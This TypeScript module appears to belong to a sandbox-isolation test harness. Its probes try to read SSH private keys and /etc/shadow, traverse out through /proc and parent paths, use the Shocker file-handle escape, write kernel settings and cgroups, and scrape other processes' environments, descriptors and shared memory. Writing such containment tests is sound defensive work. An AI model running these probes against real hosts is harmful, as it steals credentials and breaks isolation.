/** Files, descriptors and memory that are not the server's. */
import { closeSync, openSync, readdirSync, readFileSync, readSync, constants } from "node:fs";
import {
  anyOf,
  attempted,
  carries,
  held,
  reached,
  secretPrefix,
  environmentName,
  type Act,
  type Ground,
} from "../ground.ts";
import { loadNative, text } from "../native.ts";

const bytesMax = 4_096;
const descriptorsMax = 256;

const secretOf = (ground: Ground): string => `${ground.home}/.ssh/id_ed25519`;
const readAt = (path: string) => carries(readFileSync(path, "utf8").slice(0, bytesMax));

/** Whether it could be opened; nothing of it is read, since it is the real one of this machine. */
function opens(path: string, flags: number) {
  closeSync(openSync(path, flags));
  return reached(`${path} opened`);
}

export const readPrivateKey: Act = (ground) =>
  anyOf({
    planted: () => readAt(secretOf(ground)),
    home: () => readAt(`${process.env["HOME"] ?? ""}/.ssh/id_ed25519`),
  });

export const readShadow: Act = () => attempted(() => opens("/etc/shadow", constants.O_RDONLY));

export const listHome: Act = (ground) =>
  attempted(() => {
    const names = readdirSync(ground.home).filter((name) => name.startsWith(".diary-"));
    return names.length > 0 ? reached(names.join()) : held("nothing of the user's");
  });

export const throughParents: Act = (ground) =>
  anyOf({
    dots: () => readAt(`${ground.workspace}/../.ssh/id_ed25519`),
    more: () => readAt(`${ground.workspace}/../../../../../../../../..${secretOf(ground)}`),
  });

export const throughProcesses: Act = (ground) =>
  anyOf({
    self: () => readAt(`/proc/self/root${secretOf(ground)}`),
    first: () => readAt(`/proc/1/root${secretOf(ground)}`),
    host: () => readAt(`/proc/${ground.hostProcess}/root${secretOf(ground)}`),
    folder: () => readAt(`/proc/${ground.gateway}/cwd/../../..${secretOf(ground)}`),
  });

const atFolder = -100;
const accessMode = constants.O_RDONLY;

/** A handle names a file by its number on the disk, whatever is mounted where (the attack known as Shocker). */
export const byHandle: Act = async (ground) => {
  const native = await loadNative();
  if (native === undefined || ground.fileHandle === "") return { kind: "cannot", detail: "needs koffi on x86-64" };
  const handle = Buffer.from(ground.fileHandle, "hex");
  return anyOf(
    Object.fromEntries(
      [ground.workspace, "/", "/usr", "/tmp"].map((mount) => [
        mount,
        () => {
          const folder = openSync(mount, constants.O_RDONLY);
          const file = native.call("open_by_handle_at", folder, handle, accessMode);
          closeSync(folder);
          if (file < 0n) return held(`error ${-file}`);
          const bytes = Buffer.alloc(bytesMax);
          return carries(bytes.toString("utf8", 0, readSync(Number(file), bytes)));
        },
      ]),
    ),
  );
};

/** The handle of a file, for the one who plants it. */
export async function handleOf(path: string): Promise<string> {
  const native = await loadNative();
  if (native === undefined) return "";
  const handle = Buffer.alloc(8 + 128);
  handle.writeUInt32LE(128, 0);
  const done = native.call("name_to_handle_at", atFolder, text(path), handle, Buffer.alloc(8), 0);
  return done < 0n ? "" : handle.toString("hex");
}

export const sharedFolders: Act = (ground) =>
  anyOf(Object.fromEntries(ground.shared.map((path) => [path, () => readAt(path)])));

export const rawDevices: Act = () => {
  const nodes = ["kmsg", "mem", "vda", "sda", "nvme0n1", "dm-0"];
  const read = constants.O_RDONLY | constants.O_NONBLOCK;
  return anyOf(Object.fromEntries(nodes.map((name) => [name, () => opens(`/dev/${name}`, read)])));
};

export const kernelSettings: Act = () =>
  // Opened for writing and closed: what could be written there would run as root of the host.
  anyOf({
    core: () => opens("/proc/sys/kernel/core_pattern", constants.O_WRONLY),
    keys: () => opens("/proc/sysrq-trigger", constants.O_WRONLY),
    modules: () => opens("/proc/sys/kernel/modprobe", constants.O_WRONLY),
  });

export const controlGroups: Act = () => {
  const mounts = readFileSync("/proc/self/mountinfo", "utf8").split("\n");
  const folders = mounts.filter((line) => / - cgroup2? /.test(line)).map((line) => line.split(" ")[4] ?? "");
  const places = [...new Set(["/sys/fs/cgroup", "/sys/fs/cgroup/unified", ...folders])];
  return anyOf(
    Object.fromEntries(places.map((place) => [place, () => opens(`${place}/cgroup.procs`, constants.O_WRONLY)])),
  );
};

export const environments: Act = (ground) =>
  anyOf({
    own: () => carries(process.env[environmentName] ?? ""),
    parent: () => carries(readFileSync(`/proc/${process.ppid}/environ`, "latin1")),
    first: () => carries(readFileSync("/proc/1/environ", "latin1")),
    host: () => carries(readFileSync(`/proc/${ground.hostProcess}/environ`, "latin1")),
  });

export const inheritedDescriptor: Act = () => {
  const numbers = readdirSync("/proc/self/fd").map(Number);
  const others = numbers.filter((number) => number > 2 && number < descriptorsMax);
  const bytes = Buffer.alloc(bytesMax);
  for (const number of others) {
    try {
      // A position, so that nothing of a pipe is taken from those who need it: those refuse it.
      const found = bytes.toString("utf8", 0, readSync(number, bytes, 0, bytesMax, 0));
      if (found.includes(secretPrefix)) return carries(found);
    } catch {
      // A pipe or a queue of the kernel: nothing was left open there that can be read from the start.
    }
  }
  return held(`${others.length} descriptors, no secret`);
};

const attachReadOnly = 0o10000;

export const sharedMemory: Act = async (ground) => {
  const native = await loadNative();
  if (native === undefined || ground.sharedMemoryKey === 0) return { kind: "cannot", detail: "needs koffi on x86-64" };
  const segment = native.call("shmget", ground.sharedMemoryKey, 0, 0);
  if (segment < 0n) return held(`error ${-segment}`);
  const address = native.call("shmat", segment, 0, attachReadOnly);
  return address < 0n ? held(`error ${-address}`) : carries(native.bytesAt(address, 256).toString("latin1"));
};
